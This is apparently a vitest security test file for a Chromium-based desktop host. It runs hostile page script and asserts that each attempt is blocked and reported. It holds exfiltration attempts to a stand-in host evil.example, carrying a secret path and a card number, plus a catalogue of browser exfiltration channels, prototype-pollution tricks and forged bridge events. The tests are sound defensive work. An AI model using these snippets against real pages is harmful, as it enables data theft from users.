/**
 * Script in the page, as an attacker would have it, against the Chromium host: nothing leaves, nothing opens, nothing
 * is forged.
 */
import { createSocket } from 'node:dgram';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { text } from '../../main/shell/chromium/cdp.ts';
import type { ChromiumShell } from '../../main/shell/chromium/chromiumShell.ts';
import type { ChromiumWindow } from '../../main/shell/chromium/chromiumWindow.ts';
import type { Blocked } from '../../main/shell/shell.ts';
import { ASKED_BEHIND } from '../support/askedBehind.ts';
import { ChromiumHost, evaluateIn } from '../support/chromiumHost.ts';
import { collectBlocked, eventually, pageSpec } from './shell.contract.ts';
import type { Call } from './shell.contract.ts';
import { until } from '../support/until.ts';

const host = new ChromiumHost();
let shell: ChromiumShell;
let window: ChromiumWindow;
let blocked: Blocked[];
const calls: Call[] = [];
/** Connections and datagrams that reached a listener of the test on loopback: everything that left the browser. */
const escaped: string[] = [];
const tcp = createServer((socket) => {
  if (socket.remoteAddress === OWN) ownArrivals += 1;
  else escaped.push('tcp');
  socket.destroy();
});
const udp = createSocket('udp4', (_words, { address }) => {
  if (address === OWN) ownArrivals += 1;
  else escaped.push('udp');
});
/** What the test itself sends to these listeners comes from here. */
const OWN = '127.0.0.2';
const ownUdp = createSocket('udp4');
let ownArrivals = 0;
let tcpPort = 0;
let udpPort = 0;

const evaluate = (expression: string, userGesture = true): Promise<unknown> =>
  evaluateIn(window, expression, userGesture);
const attempt = (expression: string): Promise<unknown> =>
  evaluate(`(async () => { ${expression} })().then(String, (error) => 'refused: ' + error.name)`);
const reported = (): string[] =>
  calls
    .filter((call) => call.verb === 'reportBlocked')
    .map((call) => {
      const args = call.args as { what: string; target: string; trusted: boolean };
      return `${args.what} ${args.target}`;
    });
/** Resolves when what the page tried before would have arrived: the test's own connection and datagram came later. */
async function arrived(): Promise<void> {
  const isBack = `location.origin === ${JSON.stringify(window.origin)}`;
  await eventually(() => evaluate(isBack).catch(() => false), Boolean);
  await evaluate(ASKED_BEHIND);
  const before = ownArrivals;
  connect({ port: tcpPort, host: '127.0.0.1', localAddress: OWN }).on('error', () => {}); // it is ended at once
  ownUdp.send('own', udpPort, '127.0.0.1');
  await until(() => ownArrivals === before + 2);
}
/** From the command line, which Chromium rewrites with spaces. */
const profileOf = (pid: number): string =>
  /--user-data-dir=([^\s\0]+)/.exec(readFileSync(`/proc/${pid}/cmdline`, 'utf8'))?.[1] ?? '';
const processesOf = (profile: string): string[] =>
  readdirSync('/proc')
    .filter((pid) => /^[0-9]+$/.test(pid))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(profile);
      } catch {
        return false;
      }
    });

beforeAll(async () => {
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => ownUdp.bind(0, OWN, resolve));
  tcpPort = (tcp.address() as AddressInfo).port;
  udpPort = udp.address().port;
  shell = await host.start();
  shell.handleCalls(async (sender, verb, args) => {
    calls.push({ sender, verb, args });
    return { ok: true, value: { ok: true } };
  });
  window = await shell.open(await pageSpec());
  blocked = collectBlocked(window);
});
beforeEach(() => {
  calls.length = 0;
  blocked.length = 0;
  escaped.length = 0;
});
afterAll(async () => {
  await host.stop();
  tcp.close();
  udp.close();
  ownUdp.close();
});

describe('the headers are enforced', () => {
  test('the page is a secure context of its own origin, with its script and without inline script', async () => {
    expect(await evaluate('[location.origin, isSecureContext, window.loaded, window.inline].join()')).toBe(
      `${window.origin},true,true,`,
    );
  });

  test.each([
    [
      'a script element with text',
      'const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s); ' +
        'return window.ran',
    ],
    [
      'an event handler attribute',
      'document.body.setAttribute("onclick", "window.ran = 1"); document.body.click(); return window.ran',
    ],
    ['markup from text', 'document.body.innerHTML = "<b>x</b>"'],
    ['Function', 'return new Function("return 1")()'],
  ])('text does not become code by %s', async (_name, script) => {
    expect(await attempt(script)).toMatch(/^(undefined|refused: (TypeError|EvalError))$/);
  });

  test('text does not become code by a javascript: address, which is reported', async () => {
    await attempt('location.href = "javascript:window.ran=1"');
    await eventually(reported, (all) => all.includes('script script-src-elem: inline'));
    expect(await evaluate('typeof window.ran')).toBe('undefined');
  });

  test("a violation is reported once, as a script's and not a person's", async () => {
    await attempt('await fetch("https://evil.example/secret-path?q=1")');
    await eventually(reported, (all) => all.includes('request connect-src: evil.example'));
    expect(
      calls.filter((call) => call.verb === 'reportBlocked').map((call) => (call.args as { trusted: boolean }).trusted),
    ).toEqual([false]);
    expect(JSON.stringify(calls)).not.toContain('secret-path');
  });
});

describe('nothing leaves', () => {
  const to = (): string => `http://127.0.0.1:${tcpPort}/out`;
  const WAYS: readonly (readonly [name: string, script: (url: string) => string])[] = [
    ['fetch', (url) => `await fetch("${url}")`],
    ['fetch to a name', (url) => `await fetch("${url.replace('127.0.0.1', 'localhost')}")`],
    ['XMLHttpRequest', (url) => `const x = new XMLHttpRequest(); x.open("GET", "${url}"); x.send()`],
    ['WebSocket', (url) => `new WebSocket("${url.replace('http', 'ws')}")`],
    ['EventSource', (url) => `new EventSource("${url}")`],
    ['sendBeacon', (url) => `navigator.sendBeacon("${url}", "x")`],
    ['an image', (url) => `new Image().src = "${url}"`],
    ['a style', (url) => `document.body.style.backgroundImage = "url(${url})"`],
    ['a frame', (url) => `const f = document.createElement("iframe"); f.src = "${url}"; document.body.append(f)`],
    [
      'a form',
      (url) => `const f = document.createElement("form"); f.action = "${url}"; document.body.append(f); f.submit()`,
    ],
    [
      'a form in a new window',
      (url) =>
        `const f = document.createElement("form"); f.action = "${url}"; f.target = "_blank"; ` +
        'document.body.append(f); f.submit()',
    ],
    ['window.open', (url) => `window.open("${url}")`],
    ['a link', (url) => `const a = document.createElement("a"); a.href = "${url}"; document.body.append(a); a.click()`],
    [
      'a link in a new window',
      (url) =>
        `const a = document.createElement("a"); a.href = "${url}"; a.target = "_blank"; document.body.append(a); ` +
        'a.click()',
    ],
    [
      'a ping',
      (url) =>
        `const a = document.createElement("a"); a.href = "#x"; a.ping = "${url}"; document.body.append(a); a.click()`,
    ],
    ['location', (url) => `location.href = "${url}"`],
    [
      'preconnect',
      (url) =>
        `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${url}"; document.head.append(l)`,
    ],
    [
      'prefetch',
      (url) =>
        `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${url}"; document.head.append(l)`,
    ],
    ['a service worker', (url) => `await navigator.serviceWorker.register("${url}")`],
    [
      'a worker',
      (url) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'], { type: "text/javascript" })))`,
    ],
    ['WebTransport', (url) => `await new WebTransport("${url.replace('http:', 'https:')}").ready`],
  ];
  test.each(WAYS)('by %s', async (_name, script) => {
    await attempt(script(to())).catch(() => 'the page moved');
    await arrived();
    expect(escaped).toEqual([]);
    expect(await evaluate('location.href.split("#")[0]')).toBe(`${window.origin}/`);
  });

  test('by WebRTC, neither by UDP nor by TCP', async () => {
    await attempt(`const p = new RTCPeerConnection({ iceServers: [{ urls: ["stun:127.0.0.1:${udpPort}", "turn:127.0.0.1:${tcpPort}?transport=tcp"], username: "u", credential: "c" }] });
      p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());
      if (p.iceGatheringState !== "complete") await new Promise((r) => p.addEventListener("icegatheringstatechange", () => p.iceGatheringState === "complete" && r())); p.close()`);
    await arrived();
    expect(escaped).toEqual([]);
  });

  test('a navigation is reported with the requested host and no more, and the page stays', async () => {
    await evaluate('void (window.mark = 1)');
    await attempt('location.href = "https://evil.example/path?card=4111"');
    await eventually(
      () => blocked,
      (all) => all.some((one) => one.what === 'navigation'),
    );
    await arrived();
    expect(blocked).toContainEqual({ what: 'navigation', target: 'evil.example' });
    expect(JSON.stringify([blocked, calls])).not.toContain('4111');
    expect(await evaluate('window.mark')).toBe(1);
  });

  test.each(['about:blank', 'blob:'])(
    'a page that navigates itself to %s is brought back and reported',
    async (where) => {
      await evaluate(
        where === 'blob:'
          ? 'void setTimeout(() => { ' +
              'location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })'
          : 'void setTimeout(() => { location.href = "about:blank" })',
      );
      await eventually(
        () => blocked,
        (all) => all.some((one) => one.what === 'navigation' || one.what === 'download'),
      );
      expect(
        await eventually(
          () => evaluate('location.href + typeof window.cleandesk').catch(() => ''),
          (there) => there === `${window.origin}/object`,
        ),
      ).toBe(`${window.origin}/object`);
    },
  );
});

describe('a page that keeps navigating', () => {
  test('is brought back each time, also when it navigates again while it is being brought back', async () => {
    for (let round = 0; round < 8; round += 1) {
      blocked.length = 0;
      await evaluate(
        round % 2 === 0
          ? 'void setTimeout(() => { location.href = "about:blank" })'
          : 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" ' +
              '})) })',
      );
      await eventually(
        () => blocked,
        (all) => all.some((one) => one.what === 'navigation'),
      );
      // It navigates again as soon as the page can run script.
      expect(
        await eventually(
          () => evaluate('location.href').catch(() => ''),
          (there) => there === `${window.origin}/`,
        ),
      ).toBe(`${window.origin}/`);
    }
    expect(await evaluate('cleandesk.getState({}).then((answer) => answer.ok)')).toBe(true);
  });
});

describe('nothing opens', () => {
  test('a popup is closed and reported, and the page goes on', async () => {
    await attempt('window.open("about:blank"); window.open("https://evil.example/")');
    await eventually(
      () => blocked.filter((one) => one.what === 'popup').map((one) => one.target),
      (targets) => targets.includes('evil.example'),
    );
    await eventually(
      async () => JSON.stringify(await shell.cdp.browser.send('Target.getTargets')),
      (targets) => !targets.includes('evil.example') && targets.split('"type":"page"').length === 2,
    );
    expect(await evaluate('1 + 1')).toBe(2);
  });

  test('the title counts visitors who wait, also in a new page, and no script puts other words there', async () => {
    const title = evaluate.bind(null, 'document.title');
    const own = String(await title());
    window.showWaiting(3);
    await eventually(title, (now) => now === `(3) ${own}`);
    await evaluate(`document.title = 'a card number'`);
    await eventually(title, (now) => now === `(3) ${own}`);
    expect(blocked).toContainEqual({ what: 'permission', target: 'window.title' });
    await window.reset();
    await eventually(title, (now) => now === `(3) ${own}`);
    window.showWaiting(0);
    await eventually(title, (now) => now === own);
  });

  test('a dialog is dismissed and reported', async () => {
    expect(await evaluate('[alert("x"), confirm("x"), prompt("x")].join()')).toBe(',false,');
    expect(blocked.map((one) => one.target)).toEqual(['alert', 'confirm', 'prompt']);
  });

  test('a file chooser does not open', async () => {
    await evaluate(
      'void (() => { const f = document.createElement("input"); f.type = "file"; document.body.append(f); ' +
        'f.showPicker() })()',
    );
    expect(
      await eventually(
        () => blocked,
        (all) => all.length > 0,
      ),
    ).toEqual([{ what: 'dialog', target: 'file-chooser' }]);
  });

  test('a download writes no file', async () => {
    await attempt(
      'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["secret"])); a.download = ' +
        '"out.txt"; window.dispatchEvent(new Event("x")); document.body.append(a); ' +
        'HTMLElement.prototype.click.call(a)',
    );
    await attempt(
      'const f = document.createElement("form"); f.action = URL.createObjectURL(new Blob(["secret"])); ' +
        'document.body.append(f); f.submit()',
    );
    await eventually(
      () => [...blocked.map((one) => one.what), ...reported()],
      (all) => all.some((one) => one.startsWith('download') || one.startsWith('navigation')),
    );
    const profile = profileOf(window.browser.pid);
    expect(existsSync(profile)).toBe(true);
    expect(
      readdirSync(profile, { recursive: true })
        .map(String)
        .filter((name) => name.includes('out.txt') || name.endsWith('.crdownload')),
    ).toEqual([]);
  });

  test.each([
    [
      'geolocation',
      'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("granted"), () => ' +
        'no(new Error())))',
    ],
    ['notifications', 'return await Notification.requestPermission() === "granted" ? "granted" : "denied"'],
    ['the camera', 'await navigator.mediaDevices.getUserMedia({ video: true }); return "granted"'],
    ['the screen', 'await navigator.mediaDevices.getDisplayMedia({ video: true }); return "granted"'],
    ['reading the clipboard', 'await navigator.clipboard.readText(); return "granted"'],
    ['writing the clipboard', 'await navigator.clipboard.writeText("x"); return "granted"'],
    ['USB devices', 'await navigator.usb.requestDevice({ filters: [] }); return "granted"'],
    ['serial ports', 'await navigator.serial.requestPort(); return "granted"'],
    ['HID devices', 'await navigator.hid.requestDevice({ filters: [] }); return "granted"'],
    ['Bluetooth', 'await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return "granted"'],
    ['MIDI', 'await navigator.requestMIDIAccess(); return "granted"'],
    ['files', 'await showOpenFilePicker(); return "granted"'],
    ['local fonts', 'await queryLocalFonts(); return "granted"'],
    ['full screen', 'await document.documentElement.requestFullscreen(); return "granted"'],
  ])('%s is denied', async (_name, script) => {
    expect(await attempt(script)).toMatch(/^(denied|refused: \w+)$/);
  });

  test('printing does nothing but report, in the page and in a frame that it makes', async () => {
    await evaluate(
      'void (() => { addEventListener("beforeprint", () => { window.printed = true }); window.print(); const f = ' +
        'document.createElement("iframe"); document.body.append(f); f.contentWindow.print() })()',
    );
    await eventually(
      () => blocked.filter((one) => one.what === 'print').length,
      (count) => count === 2,
    );
    expect(await evaluate('window.printed')).toBeUndefined();
    expect(
      await evaluate('(() => { try { delete window.print; window.print = 1 } catch {} return typeof window.print })()'),
    ).toBe('function');
  });

  test('a frame is reported and removed', async () => {
    await evaluate('void document.body.append(document.createElement("iframe"))');
    await eventually(
      () => evaluate('document.querySelectorAll("iframe").length'),
      (count) => count === 0,
    );
    expect(blocked.some((one) => one.what === 'frame')).toBe(true);
  });
});

describe('nothing is forged', () => {
  test('a call from a frame is marked as one from a frame', async () => {
    await evaluate(
      '(async () => { const f = document.createElement("iframe"); f.src = "about:blank"; ' +
        'document.body.append(f); while (f.isConnected) { f.contentWindow.cleandesk?.getState({ from: "frame" }); ' +
        'await new Promise(requestAnimationFrame) } })()',
    );
    const call = await eventually(
      () => calls.find((one) => one.verb === 'getState'),
      (one) => one !== undefined,
    );
    expect(call?.sender.frame).toBe('sub');
  });

  test('a call from a world that the host does not know has no sender', async () => {
    const other = await shell.cdp.attach(
      text((await window.page.send('Target.getTargetInfo'))['targetInfo'] as Record<string, unknown>, 'targetId'),
    );
    const names = { binding: '' };
    window.page.on('Runtime.bindingCalled', (params) => {
      names.binding = text(params, 'name');
    });
    await evaluate('cleandesk.getState({})');
    await eventually(
      () => names.binding,
      (name) => name !== '',
    );
    calls.length = 0;
    // As if the browser reported a world that was never announced.
    window.page.emit('Runtime.bindingCalled', {
      name: names.binding,
      payload: JSON.stringify({ kind: 'call', id: 1, verb: 'getState', args: {} }),
      executionContextId: 987654,
    });
    expect(calls.map((call) => call.sender)).toEqual([{ windowId: window.id, frame: null, origin: null }]);
    expect(other.id).not.toBe('');
  });

  test("the page finds no way into the preload's world", async () => {
    expect(
      await evaluate(
        'Object.getOwnPropertyNames(window).filter((name) => ' +
          '/^(tell|receive|handshake)_|^cleandesk-|^electron$|^require$|^ipcRenderer$/.test(name)).join()',
      ),
    ).toBe('');
    expect(await evaluate('[typeof require, typeof process, typeof module].join()')).toBe(
      'undefined,undefined,undefined',
    );
  });

  test('the bridge cannot be replaced, extended or frozen out', async () => {
    expect(
      await evaluate(`(() => { const before = window.cleandesk; for (const act of [() => { window.cleandesk = 1 }, () => { delete window.cleandesk }, () => { before.getState = 1 }, () => { before.more = 1 }, () => Object.defineProperty(window, "cleandesk", { value: 1 })]) { try { act() } catch {} }
      return window.cleandesk === before && typeof before.getState === "function" && before.more === undefined })()`),
    ).toBe(true);
  });

  test('polluted prototypes and replaced built-ins neither break a call nor reveal the channel', async () => {
    expect(
      await evaluate(`(async () => {
      const seen = [];
      const spy = (object, name) => { const real = object[name]; object[name] = function (...args) { seen.push([name, this, args]); return Reflect.apply(real, this, args) } };
      for (const name of ["dispatchEvent", "addEventListener"]) spy(EventTarget.prototype, name);
      Object.defineProperty(CustomEvent.prototype, "detail", { get() { seen.push(["detail", this]); return { k: "settle" } } });
      Object.defineProperty(Event.prototype, "currentTarget", { get() { seen.push(["currentTarget", this]) } });
      window.CustomEvent = class { constructor() { seen.push("CustomEvent") } };
      Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(target, self, args) { return Reflect.apply(target, self, args) } });
      for (const name of ["get", "set"]) spy(WeakMap.prototype, name);
      Object.prototype.t = "f"; Object.prototype.n = 1; Object.prototype.how = "no";
      Array.prototype[Symbol.iterator] = function* () { seen.push("iterator") };
      let answer;
      try { answer = await cleandesk.getState({ a: 1 }) } finally { delete Object.prototype.t; delete Object.prototype.n; delete Object.prototype.how }
      return JSON.stringify([answer, seen.length, String(seen[0])]);
    })()`),
    ).toBe('[{"ok":true},0,"undefined"]');
    await window.reset();
  });

  test('a page cannot raise an event of the bridge: only what main pushes arrives', async () => {
    await evaluate(
      'void (() => { window.heard.length = 0; for (const target of [window, document]) { ' +
        'target.dispatchEvent(new CustomEvent("main", { detail: { k: "call", n: 1, args: {} } })); ' +
        'target.dispatchEvent(new MessageEvent("message", { data: { event: "notice" } })) } window.postMessage({ ' +
        'kind: "push", event: "notice", payload: "forged" }, "*") })()',
    );
    window.push('notice', 'real');
    expect(
      await eventually(
        () => evaluate('JSON.stringify(window.heard)'),
        (received) => received !== '[]',
      ),
    ).toBe('["real"]');
  });

  test('only plain data crosses', async () => {
    for (const value of ['new Map([[1, 2]])', 'document.body', 'new Date()', 'Symbol("x")', 'window']) {
      expect(
        await evaluate(
          `(async () => cleandesk.getState({ value: ${value} }))().then((x) => JSON.stringify(x), (error) => ` +
            `'refused: ' + error.name)`,
        ),
        value,
      ).toMatch(/^(refused: \w+|\{"ok":true\})$/);
    }
    expect(calls.filter((call) => call.verb === 'getState').map((call) => call.args)).toEqual([]);
  });

  test("a synthetic copy by a script is distinguished from a person's", async () => {
    await evaluate('void document.body.dispatchEvent(new ClipboardEvent("copy", { bubbles: true }))');
    const report = await eventually(
      () => calls.find((call) => call.verb === 'reportBlocked'),
      (call) => call !== undefined,
    );
    expect(report?.args).toMatchObject({ what: 'copy', trusted: false });
  });

  test('repeated calls of a script in a loop are reported, but not a thousand times', async () => {
    await evaluate(
      'void (() => { for (let n = 0; n < 1000; n += 1) document.body.dispatchEvent(new ClipboardEvent("copy", { ' +
        'bubbles: true })) })()',
    );
    // A call goes the same way, behind the reports.
    await evaluate('cleandesk.getState({})');
    expect(calls.at(-1)?.verb).toBe('getState');
    expect(calls.length).toBeGreaterThan(1);
    expect(calls.length).toBeLessThan(60);
  });

  test('a call that is far too long arrives without its arguments, to be refused', async () => {
    await evaluate('cleandesk.sendMessage({ text: "x".repeat(1_000_000) })');
    expect(calls.map((call) => [call.verb, call.args])).toEqual([['sendMessage', null]]);
  });
});

describe('nothing remains', () => {
  const heap = async (): Promise<string> => {
    const chunks: string[] = [];
    const off = window.page.on('HeapProfiler.addHeapSnapshotChunk', (params) => chunks.push(text(params, 'chunk')));
    await window.page.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
    off();
    return chunks.join('');
  };

  test('after a reset another process renders the page, and its heap contains nothing of the former one', async () => {
    const needle = ['quartz', 'finch', '7261'].join('-');
    window.push('notice', { text: needle });
    await eventually(
      () => evaluate('window.heard.length'),
      (count) => Number(count) > 0,
    );
    expect(await heap()).toContain(needle);
    const rendererOf = async (): Promise<unknown> => evaluate('performance.timeOrigin');
    const before = await rendererOf();
    await window.reset();
    expect(await rendererOf()).not.toBe(before);
    expect(await heap()).not.toContain(needle);
  });

  test('after a reset nothing is left of what a script wrote into the storage of the tab', async () => {
    await evaluate('sessionStorage.setItem("left", "by a script")');
    await window.reset();
    expect(await evaluate('sessionStorage.length')).toBe(0);
  });

  test('a crashed renderer is reported once, and a reset brings the page back', async () => {
    const crashes: string[] = [];
    window.onCrash(() => crashes.push('crash'));
    window.page.tell('Page.crash');
    await eventually(
      () => crashes.length,
      (count) => count === 1,
    );
    await window.reset();
    expect(await evaluate('typeof window.cleandesk')).toBe('object');
    expect(crashes.length).toBe(1);
  });

  test('a renderer that crashes by a fault in its memory leaves no dump', async () => {
    const crashes: string[] = [];
    window.onCrash(() => crashes.push('crash'));
    window.page.tell('Page.navigate', { url: 'chrome://crash' });
    await eventually(
      () => crashes.length,
      (count) => count === 1,
    );
    // Chromium's handler writes the dump while the process that crashes waits for it.
    const profiles = readdirSync(tmpdir()).filter((name) => name.startsWith(`cleandesk-browser-${process.pid}-`));
    const files = profiles.flatMap((name) =>
      readdirSync(join(tmpdir(), name), { recursive: true, encoding: 'utf8' }).map((file) => join(name, file)),
    );
    expect(files.filter((file) => file.includes('Preferences'))).not.toEqual([]);
    expect(files.filter((file) => /\.(dmp|meta)$|(^|\/)core/.test(file))).toEqual([]);
    await window.reset();
  });

  test('the renderer is sandboxed, or the capabilities say that it is not', () => {
    const group = readdirSync('/proc')
      .filter((pid) => /^[0-9]+$/.test(pid))
      .filter((pid) => {
        try {
          return (
            readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[2] === String(window.browser.pid) &&
            readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer')
          );
        } catch {
          return false;
        }
      });
    expect(group.length).toBeGreaterThan(0);
    const filtered = group.every((pid) => /^Seccomp:\s+2$/m.test(readFileSync(`/proc/${pid}/status`, 'utf8')));
    expect(shell.capabilities().find((one) => one.control === 'renderer sandbox')?.state).toBe(
      filtered ? 'enforced' : 'not-enforceable',
    );
  });

  test('no port is open, and quitting leaves neither a process nor a profile', async () => {
    const pid = window.browser.pid;
    const profile = profileOf(pid);
    expect(readdirSync(profile)).not.toContain('DevToolsActivePort');
    expect(processesOf(profile).length).toBeGreaterThan(3);
    await shell.quit();
    await eventually(
      () => processesOf(profile),
      (left) => left.length === 0,
    );
    expect(existsSync(profile)).toBe(false);
  });
});
